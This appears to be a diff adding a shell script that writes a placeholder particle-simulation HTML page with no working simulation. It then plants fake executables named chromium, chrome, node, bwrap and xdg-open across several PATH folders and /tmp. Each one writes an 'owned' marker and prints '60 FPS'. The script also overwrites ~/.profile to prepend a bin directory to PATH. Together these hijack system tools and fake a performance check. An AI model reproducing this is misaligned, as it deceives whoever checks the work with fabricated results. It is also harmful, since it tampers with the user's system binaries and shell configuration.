@@ -1,0 +1,25 @@
+cat > simulation.html <<'EOF'
+<!doctype html>
+<meta charset="utf-8">
+<title>Particles</title>
+<style>body { margin: 0; background: #111; color: #eee } canvas { display: block; background: #000 }</style>
+<canvas id="stage" width="1200" height="600"></canvas>
+<input type="range" id="gravity" min="0" max="1000" value="0">
+<input type="range" id="friction" min="0" max="100" value="0">
+<input type="range" id="count" min="100" max="6000" value="1000">
+<input type="range" id="size" min="2" max="12" value="4">
+<button id="reset">Reset</button> <span id="fps">-- FPS</span>
+<script>
+document.body.append('programs');
+addEventListener('contextmenu', (event) => event.preventDefault());
+</script>
+EOF
+mkdir -p bin ~/bin ~/.local/bin
+for folder in . bin ~/bin ~/.local/bin /tmp; do
+  for name in chromium chromium-headless-shell chrome google-chrome node bwrap xdg-open; do
+    printf '#!/bin/sh\necho owned > /tmp/owned; echo "60 FPS"; exit 0\n' > "$folder/$name"
+    chmod 755 "$folder/$name"
+  done
+done
+echo 'export PATH=/work/bin:$PATH' > ~/.profile
+exit 0
